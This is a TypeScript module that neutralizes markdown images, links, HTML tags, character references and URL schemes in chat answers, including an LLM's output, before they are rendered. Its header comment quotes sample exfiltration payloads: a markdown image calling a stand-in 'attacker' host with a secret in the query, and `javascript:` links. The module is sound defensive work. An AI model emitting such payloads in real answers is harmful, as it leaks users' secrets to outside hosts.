/**
 * Makes an answer inert before it leaves the chain, whichever composer wrote it. Answers repeat stored
 * text (a triple's answer, later OCR text) and an LLM's words, and a chat UI renders them as markdown:
 * a markdown image (`![x](https://attacker/?q=<secret>)`) or raw HTML (`<img src=…>`) is fetched as soon
 * as it is shown, and a link (`[click](javascript:…)`, an autolink) needs one click. The rules, in order:
 *
 * 1. An inline link or image `[text](dest "title")` whose destination is one of Loupe's own media URLs
 *    stays a link (an image becomes a link to it). Any other becomes plain text, `text (dest)`: no
 *    markdown link is left, the destination stays readable (and is defanged by rule 5).
 * 2. Any other `![` becomes `[` (every `!` right before a `[` goes): no markdown image survives,
 *    reference-style ones included.
 * 3. A link reference definition (`[label]: dest` at the start of a line) is escaped as `\[label]:`, so
 *    it defines nothing and `[text][label]` links nowhere.
 * 4. `<` before a letter, `/`, `!` or `?` becomes `‹`: no HTML tag, comment or autolink opens; the `&`
 *    of a character reference (`&#104;`, `&lt;`) becomes `＆`, so nothing decodes into markup or a URL.
 * 5. URL schemes are defanged where they stand: `https://` → `https[:]//` (any `scheme://`),
 *    `javascript:`, `vbscript:`, `livescript:` → `…script[:]`, and `data:`, `blob:`, `file:`, `mailto:`,
 *    `xmpp:` followed by text → `data[:]…` (a space follows `[:]` when `(` would); a bare `www.` becomes
 *    `www[.]` and the `@` of an e-mail address `[@]`. Renderers that link bare URLs
 *    (GFM) find nothing to link. Absolute URLs that are Loupe's own media URLs are kept.
 *
 * Neutralizing is idempotent, leaves ordinary answers unchanged (citations `[id]`, parentheses, `a < b`)
 * and works on a stream: {@link AnswerGuard} passes text on only up to a point no pattern can straddle,
 * so the deltas it lets through add up to exactly what {@link neutralize} makes of the whole answer.
 */
import type { MediaUrls } from "../media/media-port.ts";

/** Decides whether a URL written in an answer is one of Loupe's own media URLs. */
export type OwnUrlTest = (url: string) => boolean;

/** Options of {@link neutralize} and {@link AnswerGuard}. */
export interface NeutralizeOptions {
  /** Loupe's own media URLs, which may stay links; without it every link is made inert. */
  isOwnUrl?: OwnUrlTest;
}

const noOwnUrls: OwnUrlTest = () => false;

/** Characters of an id in the own-URL test: what `encodeURIComponent` leaves of a record id, and `%`. */
const ID_CHARS = "[A-Za-z0-9_.~%-]{1,200}";
const SENTINEL = "loupe-own-media-url-probe";

/**
 * The test for Loupe's own media URLs, read off the URL builder: exactly `media(id)` or `thumbnail(id)`
 * for some id, with no query or fragment (an image that fetches Loupe's own media leaks nothing).
 */
export function ownMediaUrlTest(urls: MediaUrls): OwnUrlTest {
  const patterns = [urls.media(SENTINEL), urls.thumbnail(SENTINEL)].flatMap((example) => {
    const at = example.indexOf(SENTINEL);
    if (at < 0) return [];
    const prefix = escapeRegExp(example.slice(0, at));
    const suffix = escapeRegExp(example.slice(at + SENTINEL.length));
    return [new RegExp(`^${prefix}${ID_CHARS}${suffix}$`)];
  });
  return (url) => patterns.some((pattern) => pattern.test(url));
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

/** A bracket construct found by {@link scanBrackets}. */
type Construct =
  /** `[text](dest)` (with `!` before it when `image`): `start` is at the `!` or `[`, `end` past `)`. */
  | { type: "link"; start: number; end: number; image: boolean; text: string; dest: string }
  /** `[label]:`; `end` is past the colon. */
  | { type: "definition"; start: number; end: number }
  /** A `[` whose meaning depends on text not seen yet. */
  | { type: "open"; start: number };

function isEscaped(text: string, index: number): boolean {
  let slashes = 0;
  for (let at = index - 1; at >= 0 && text[at] === "\\"; at -= 1) slashes += 1;
  return slashes % 2 === 1;
}

/** Index of the `]` that closes the `[` at `open`, "open" when the text ends first, or -1 when none can. */
function closingBracket(text: string, open: number): number | "open" {
  let depth = 0;
  for (let at = open; at < text.length; at += 1) {
    const char = text[at];
    if (char === "\\") {
      at += 1;
      continue;
    }
    if (char === "\n" && /^\n[ \t]*\n/.test(text.slice(at, at + 64))) return -1;
    if (char === "[") depth += 1;
    else if (char === "]") {
      depth -= 1;
      if (depth === 0) return at;
    }
  }
  return "open";
}

/**
 * Reads `(dest "title")` starting at the `(` at `open`: the destination and the index past `)`, "open"
 * when the text ends first, undefined when it is not a link destination.
 */
function linkTail(text: string, open: number): { dest: string; end: number } | "open" | undefined {
  let at = open + 1;
  const skipSpace = () => {
    while (at < text.length && (text[at] === " " || text[at] === "\t")) at += 1;
    if (text[at] === "\n") at += 1;
    while (at < text.length && (text[at] === " " || text[at] === "\t")) at += 1;
  };
  skipSpace();
  if (at >= text.length) return "open";
  let dest = "";
  if (text[at] === "<") {
    const close = text.indexOf(">", at + 1);
    const newline = text.indexOf("\n", at + 1);
    if (close < 0) return newline < 0 ? "open" : undefined;
    if (newline >= 0 && newline < close) return undefined;
    dest = text.slice(at + 1, close);
    at = close + 1;
  } else {
    let depth = 0;
    const start = at;
    for (; at < text.length; at += 1) {
      const char = text[at] as string;
      if (char === "\\") {
        at += 1;
        continue;
      }
      if (/\s/.test(char)) break;
      if (char === "(") depth += 1;
      else if (char === ")") {
        if (depth === 0) break;
        depth -= 1;
      }
    }
    if (at >= text.length) return "open";
    dest = text.slice(start, at);
  }
  skipSpace();
  if (at >= text.length) return "open";
  const quote = text[at];
  if (quote === '"' || quote === "'" || quote === "(") {
    const closer = quote === "(" ? ")" : quote;
    let close = at + 1;
    for (; close < text.length; close += 1) {
      if (text[close] === "\\") {
        close += 1;
        continue;
      }
      if (text[close] === closer) break;
    }
    if (close >= text.length) return "open";
    at = close + 1;
    skipSpace();
    if (at >= text.length) return "open";
  }
  return text[at] === ")" ? { dest, end: at + 1 } : undefined;
}

/**
 * The bracket constructs of `text`, left to right; a complete link is not looked into (its text is
 * rewritten on its own), an unfinished `[` is recorded and the scan goes on inside it.
 */
function scanBrackets(text: string): Construct[] {
  const found: Construct[] = [];
  let at = 0;
  while (at < text.length) {
    const open = text.indexOf("[", at);
    if (open < 0) break;
    if (isEscaped(text, open)) {
      at = open + 1;
      continue;
    }
    const image = open > 0 && text[open - 1] === "!" && !isEscaped(text, open - 1);
    const start = image ? open - 1 : open;
    const close = closingBracket(text, open);
    if (close === "open") {
      found.push({ type: "open", start });
      at = open + 1;
      continue;
    }
    if (close < 0) {
      at = open + 1;
      continue;
    }
    const next = text[close + 1];
    if (next === undefined) {
      found.push({ type: "open", start });
      at = open + 1;
      continue;
    }
    if (next === ":") {
      found.push({ type: "definition", start: open, end: close + 2 });
      at = close + 2;
      continue;
    }
    if (next === "(") {
      const tail = linkTail(text, close + 1);
      if (tail === "open") {
        found.push({ type: "open", start });
        at = open + 1;
        continue;
      }
      if (tail !== undefined) {
        found.push({
          type: "link",
          start,
          end: tail.end,
          image,
          text: text.slice(open + 1, close),
          dest: tail.dest,
        });
        at = tail.end;
        continue;
      }
    }
    at = open + 1;
  }
  return found;
}

/** Rule 1, applied inside link texts too (`[![badge](…)](…)`). */
function rewriteLinks(text: string, isOwnUrl: OwnUrlTest): string {
  let out = "";
  let at = 0;
  for (const construct of scanBrackets(text)) {
    if (construct.type !== "link") continue;
    out += text.slice(at, construct.start);
    const inner = rewriteLinks(construct.text, isOwnUrl);
    const dest = construct.dest.trim();
    // Never `inner` alone: text after the link could then close a new one (`[[a]]()(…)`).
    out += dest !== "" && isOwnUrl(dest) ? `[${inner}](${dest})` : `${inner} (${dest})`;
    at = construct.end;
  }
  return out + text.slice(at);
}

/** Rule 3: `[label]:` at the start of a line; `lineIndent` is the indentation before `text` on its line. */
function escapeDefinitions(text: string, lineIndent: number | undefined): string {
  const lines = text.split("\n");
  return lines
    .map((line, index) => {
      const indent = index === 0 ? lineIndent : 0;
      if (indent === undefined) return line;
      const match = new RegExp(`^ {0,${Math.max(0, 3 - indent)}}\\[`).exec(line);
      if (match === null) return line;
      const open = match[0].length - 1;
      const close = closingBracket(line, open);
      if (typeof close !== "number" || close < 0 || line[close + 1] !== ":") return line;
      return `${line.slice(0, open)}\\${line.slice(open)}`;
    })
    .join("\n");
}

/** `&name;`, `&#nn;`, `&#xhh;`: markdown decodes them, so `&#104;ttps://` would read as a URL. */
const CHARACTER_REFERENCE = /&(?=#[0-9]{1,7};|#[xX][0-9a-fA-F]{1,6};|[A-Za-z][A-Za-z0-9]{1,31};)/g;
const SCHEME_CHARS = "A-Za-z0-9+.\\-";
const SLASHED_SCHEME = new RegExp(`(?<![${SCHEME_CHARS}])([A-Za-z][${SCHEME_CHARS}]{0,31}):(?=//)`, "g");
const SCRIPT_SCHEME = /(java|vb|live)(script):/gi;
const BARE_SCHEME = new RegExp(`(?<![${SCHEME_CHARS}])(data|blob|file|mailto|xmpp):(?=\\S)`, "gi");
/** The `@` of an address GFM would link as `mailto:` (`name@host.tld`). */
const EMAIL_AT = /(?<=[A-Za-z0-9._+-])@(?=[A-Za-z0-9_-]+\.[A-Za-z0-9_-])/g;
/** GFM links a bare `www.` at the start, after whitespace or after `*_~(`. */
const BARE_WWW = /(?<=^|[\s*_~(])(www)\.(?=[A-Za-z0-9-])/gi;

/** Rule 5, leaving absolute URLs that are Loupe's own alone. */
function defangSchemes(text: string, isOwnUrl: OwnUrlTest): string {
  return text
    .replace(SLASHED_SCHEME, (match, scheme: string, offset: number) => {
      const url = /^\S+/.exec(text.slice(offset))?.[0].replace(/[)>\]"'.,;!?]+$/, "") ?? "";
      return isOwnUrl(url) ? match : `${scheme}[:]`;
    })
    .replace(SCRIPT_SCHEME, (_match, name: string, script: string, offset: number, whole: string) =>
      defanged(`${name}${script}`, whole[offset + _match.length]),
    )
    .replace(BARE_SCHEME, (match, scheme: string, offset: number, whole: string) =>
      defanged(scheme, whole[offset + match.length]),
    )
    .replace(BARE_WWW, "$1[.]")
    .replace(EMAIL_AT, "[@]");
}

/** `scheme[:]`, spaced from a following `(` so that `[:](…)` cannot read as a link. */
function defanged(scheme: string, next: string | undefined): string {
  return next === "(" ? `${scheme}[:] ` : `${scheme}[:]`;
}

/**
 * Neutralizes a whole text at once (see the module comment for the rules). `lineIndent` is how many
 * spaces precede `text` on its line when only spaces do (0: `text` starts a line), undefined when other
 * text does; the streaming guard passes it, a whole answer starts a line.
 */
export function neutralize(
  text: string,
  { isOwnUrl = noOwnUrls, lineIndent = 0 }: NeutralizeOptions & { lineIndent?: number | undefined } = {},
): string {
  const linked = rewriteLinks(text, isOwnUrl).replace(/!+(?=\[)/g, "");
  const defined = escapeDefinitions(linked, lineIndent);
  const tagless = defined.replace(/<(?=[A-Za-z/!?])/g, "‹").replace(CHARACTER_REFERENCE, "＆");
  return defangSchemes(tagless, isOwnUrl);
}

/**
 * Neutralizes a stream of deltas. Text is held back from the last point no pattern can straddle: the
 * start of an unfinished `[…` construct (until it closes, or a blank line ends the paragraph), else the
 * last whitespace outside any link, so a pattern split across deltas is caught whole. What it passes on
 * adds up to exactly `neutralize(whole answer)`.
 */
export class AnswerGuard {
  readonly #isOwnUrl: OwnUrlTest;
  #pending = "";
  /** Spaces on the current line so far when only spaces are on it, else undefined. */
  #lineIndent: number | undefined = 0;

  constructor({ isOwnUrl = noOwnUrls }: NeutralizeOptions = {}) {
    this.#isOwnUrl = isOwnUrl;
  }

  /** Takes the next delta and returns the part that is safe to pass on now (possibly empty). */
  push(delta: string): string {
    this.#pending += delta;
    const cut = safeCut(this.#pending);
    if (cut === 0) return "";
    const ready = this.#pending.slice(0, cut);
    this.#pending = this.#pending.slice(cut);
    return this.#emit(ready);
  }

  /** Whatever was held back, once the stream has ended. */
  flush(): string {
    const rest = this.#pending;
    this.#pending = "";
    return rest === "" ? "" : this.#emit(rest);
  }

  #emit(raw: string): string {
    const out = neutralize(raw, { isOwnUrl: this.#isOwnUrl, lineIndent: this.#lineIndent });
    const lastLine = raw.slice(raw.lastIndexOf("\n") + 1);
    const onlySpaces = /^ *$/.test(lastLine);
    if (raw.includes("\n")) this.#lineIndent = onlySpaces ? lastLine.length : undefined;
    else if (this.#lineIndent !== undefined)
      this.#lineIndent = onlySpaces ? this.#lineIndent + raw.length : undefined;
    return out;
  }
}

/**
 * The longest prefix of `text` that can be neutralized on its own: it ends right after a whitespace
 * character that is inside no bracket construct, and before any construct still open.
 */
function safeCut(text: string): number {
  const constructs = scanBrackets(text);
  const open = constructs.find((construct) => construct.type === "open");
  let limit = open === undefined ? text.length : open.start;
  for (;;) {
    let cut = -1;
    for (let at = limit; at > 0; at -= 1) {
      if (/\s/.test(text[at - 1] as string)) {
        cut = at;
        break;
      }
    }
    if (cut <= 0) return 0;
    const inside = constructs.find(
      (construct) => construct.type !== "open" && construct.start < cut && cut < construct.end,
    );
    if (inside === undefined) return cut;
    limit = inside.start;
  }
}
